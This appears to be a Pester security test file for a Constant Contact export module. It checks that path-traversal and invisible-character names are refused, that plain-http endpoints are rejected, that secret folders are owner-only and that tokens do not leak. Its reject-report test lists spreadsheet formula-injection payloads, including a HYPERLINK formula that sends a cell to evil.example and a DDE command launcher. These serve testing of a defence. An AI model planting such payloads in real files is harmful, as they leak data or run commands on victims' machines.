# Issue #7, security, what the other suites do not already show: names that would escape their folder, connection
# files edited to plain http, the reject report against formula injection end to end, and the modes of every
# folder that holds secrets or personal data. No token in any stream, file or error record, and no address in
# Verbose or Debug output: Faults.Tests.ps1 (runs under faults with 5-second tokens) and Connections.Tests.ps1
# (every connection command). Plain http refused at New-CCConnection: Connections.Tests.ps1.

BeforeAll {
    Import-Module (Join-Path $PSScriptRoot 'TestHelpers.psm1') -Force
    Import-Module (Get-TestModulePath) -Force
    # The home one level down, so that a name escaping it would land in a folder the test can watch.
    $script:Outer = Join-Path ([System.IO.Path]::GetTempPath()) "cce-security-$([guid]::NewGuid().ToString('N').Substring(0, 10))"
    New-Item -ItemType Directory -Path $Outer | Out-Null
    $script:TestHome = Join-Path $Outer 'home'
    New-Item -ItemType Directory -Path $TestHome | Out-Null
    $env:CC_EXPORT_HOME = $TestHome
    $script:Sandbox = Start-TestSandbox -Arguments @('--activity-delay', '20')
    $null = New-CCConnection -Name sandbox -ClientId $Sandbox.ClientId -ApiBaseUri $Sandbox.ApiBaseUri -AuthBaseUri $Sandbox.AuthBaseUri -AcceptDataPrivacyNotice 6>$null
    $script:Export = Set-CCExport -Name secure -Connection sandbox -ListName Secure -CreateList -EmailField Email -FirstNameField FirstName -Segment Newsletter -SegmentField Segments -MaxRejectPercent 100 -PassThru
}

AfterAll {
    Stop-TestSandbox $script:Sandbox
    Remove-Module ConstantContactExport -ErrorAction SilentlyContinue
    Remove-Item $script:Outer -Recurse -Force -ErrorAction SilentlyContinue
}

Describe 'Names that would escape their folder' {
    BeforeAll {
        $script:Unsafe = @('../x', '..\x', '../../outside', '/etc/passwd', '/tmp/x', 'C:\x', 'C:x', 'a/b', 'a\b', '..', '.', '.hidden', 'x.', ' x', 'x ',
            "a`0b", "a`nb", 'con', 'NUL.json', 'com1', 'x:y', 'a|b', 'a?b', 'a"b', 'a<b', ('a' * 65),
            # Invisible and formatting characters: each looks like another name ('x', 'xexe.png', 'a b').
            "x`u{200B}", "x`u{202E}gnp.exe", "`u{FEFF}x", "se`u{00AD}cure", "a`u{00A0}b", "x`u{2066}")
    }

    It 'refuses every one in Set-CCExport, Invoke-CCExport, Remove-CCExport and Get-CCExportRun, and writes nothing outside the home' {
        $before = @(Get-ChildItem $Outer -Recurse -Force | ForEach-Object FullName)
        foreach ($name in $Unsafe) {
            { Set-CCExport -Name $name -Connection sandbox -ListId $Export.ListIds[0] -EmailField Email -Segment s } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            { Invoke-CCExport -Name $name -Resume } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            { @{ Email = 'a@example.com'; Segments = 'Newsletter' } | Invoke-CCExport -Name $name } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            Remove-CCExport -Name $name -Confirm:$false -ErrorAction SilentlyContinue -ErrorVariable removeErrors
            $removeErrors.Count | Should -BeGreaterThan 0 -Because "'$name'"
            { Get-CCExportRun -RunId $name -ErrorAction Stop } | Should -Throw -Because "'$name'"
            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
                # The same error as every other command, not an empty answer.
                { Get-CCExportRun -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
                { Get-CCExport -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*' -Because "'$name'"
            }
        }
        { Get-CCExportRun -Name '../secrets/x' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
        { Get-CCExportRun -Name '../secrets/*' -ErrorAction Stop } | Should -Throw -ErrorId 'ExportNameInvalid,*'
        @(Get-CCExportRun -Name 'sec*') | Should -BeNullOrEmpty
        { Get-CCExportRun -RunId '../../home/connections/sandbox' -ErrorAction Stop } | Should -Throw
        # Nothing new anywhere under the folder around the home, inside it only the usual folders.
        $after = @(Get-ChildItem $Outer -Recurse -Force | ForEach-Object FullName)
        @($after | Where-Object { $_ -notin $before }) | Should -BeNullOrEmpty
        (Get-ChildItem (Join-Path $TestHome 'exports')).Name | Should -Be @('secure.json')
    }

    It 'refuses the same names for connections' {
        foreach ($name in $Unsafe) {
            { New-CCConnection -Name $name -ClientId x -AcceptDataPrivacyNotice } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
            if (-not [WildcardPattern]::ContainsWildcardCharacters($name)) {
                { Get-CCConnection -Name $name -ErrorAction Stop } | Should -Throw -ErrorId 'InvalidConnectionName,*' -Because "'$name'"
            }
        }
        (Get-ChildItem (Join-Path $TestHome 'connections')).Name | Should -Be @('sandbox.json')
    }
}

Describe 'A connection file edited to plain http off loopback' {
    It 'is refused when used (InsecureEndpoint), before any request, and Get-CCConnection skips it with a warning' {
        $path = Join-Path $TestHome 'connections/edited.json'
        $json = (Get-Content (Join-Path $TestHome 'connections/sandbox.json') -Raw) -replace '"Name": "sandbox"', '"Name": "edited"' -replace '"ApiBaseUri": "[^"]*"', '"ApiBaseUri": "http://api.cc.example.net/v3"'
        Set-Content -Path $path -Value $json
        Copy-Item (Join-Path $TestHome 'secrets/sandbox.token') (Join-Path $TestHome 'secrets/edited.token')
        try {
            { Test-CCConnection -Connection edited -ErrorAction Stop } | Should -Throw -ErrorId 'InsecureEndpoint,*'
            { Set-CCExport -Name via-edited -Connection edited -ListName x -EmailField Email -Segment s } | Should -Throw -ErrorId 'InsecureEndpoint,*'
            $connections = Get-CCConnection -WarningVariable warnings -WarningAction SilentlyContinue
            $connections.Name | Should -Not -Contain 'edited'
            "$warnings" | Should -Match 'edited\.json'
        }
        finally {
            Remove-Item $path, (Join-Path $TestHome 'secrets/edited.token')
        }
    }
}

Describe 'The reject report' {
    It 'holds no cell a spreadsheet would run, whatever the profiles and the file name hold' -Skip:$IsWindows {
        $payloads = @('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', "`t=1+1", '=cmd|'' /C calc''!A0', '"=1+1"',
            # Full-width forms, the minus sign, and formula starts behind a BOM, a zero-width space or a bidirectional control.
            "`u{FF1D}HYPERLINK(""http://evil.example"")", "`u{FF0B}1+2", "`u{FF0D}2+3", "`u{FF20}SUM(A1)", "`u{2212}2+3",
            "`u{FEFF}=1+1", "`u{200B}+1+2", "`u{202E}`u{200B} @SUM(A1)", "`u{FEFF}`u{FF1D}1")
        $lines = @('Email,FirstName,Segments') + ($payloads | ForEach-Object { '"' + $_.Replace('"', '""') + '",Ada,Newsletter' }) + @('ok@example.com,"=1+2",Newsletter', ('long@example.com,' + ('=' * 60) + ',Newsletter'))
        # A file name from a drop folder can hold a line break and a formula of its own.
        $csv = Join-Path $TestHome "drop`n=SUM(A1)-1.csv"
        Set-Content -LiteralPath $csv -Value $lines
        $run = Invoke-CCExport -Name secure -LiteralPath $csv -ErrorPerReject -ErrorAction SilentlyContinue -ErrorVariable rejected
        $run.InvalidCount | Should -Be ($payloads.Count + 1) -Because (($rejected | ForEach-Object { "$($_.FullyQualifiedErrorId): $_" }) -join "`n")
        $rows = @(Import-Csv $run.RejectPath)
        $rows.Count | Should -Be $run.InvalidCount
        foreach ($row in $rows) {
            foreach ($cell in $row.PSObject.Properties.Value) {
                "$cell" | Should -Not -Match '^[\p{Cf} ]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20\u2212]' -Because "'$cell' would run as a formula"
            }
        }
        # Read as a spreadsheet reads it, line by line outside quotes: no line starts a formula either.
        $text = Get-Content -LiteralPath $run.RejectPath -Raw
        $text | Should -Not -Match '(^|\r\n)[=+\-@]'
    }
}

Describe 'Folders that hold secrets or personal data' {
    It 'are the owner''s alone after a run: secrets and runs 0700, token 0600, locks 0700' -Skip:$IsWindows {
        $run = @{ Email = 'mode@example.com'; FirstName = 'Mo'; Segments = 'Newsletter' } | Invoke-CCExport -Name secure
        $run.State | Should -Be 'Completed'
        $owner = [System.IO.UnixFileMode]'UserRead, UserWrite, UserExecute'
        foreach ($folder in 'secrets', 'runs', 'locks', "runs/$($run.RunId)") {
            (Get-Item (Join-Path $TestHome $folder)).UnixFileMode | Should -Be $owner -Because $folder
        }
        (Get-Item (Join-Path $TestHome 'secrets/sandbox.token')).UnixFileMode | Should -Be ([System.IO.UnixFileMode]'UserRead, UserWrite')
        # Definitions, connections and journals hold no token.
        $tokens = @((Get-SandboxState $Sandbox).issued_tokens)
        foreach ($file in Get-ChildItem $TestHome -Recurse -File -Include '*.json', '*.jsonl') {
            $content = [System.IO.File]::ReadAllText($file.FullName)
            @($tokens | Where-Object { $content.Contains($_) }).Count | Should -Be 0 -Because $file.FullName
        }
    }
}
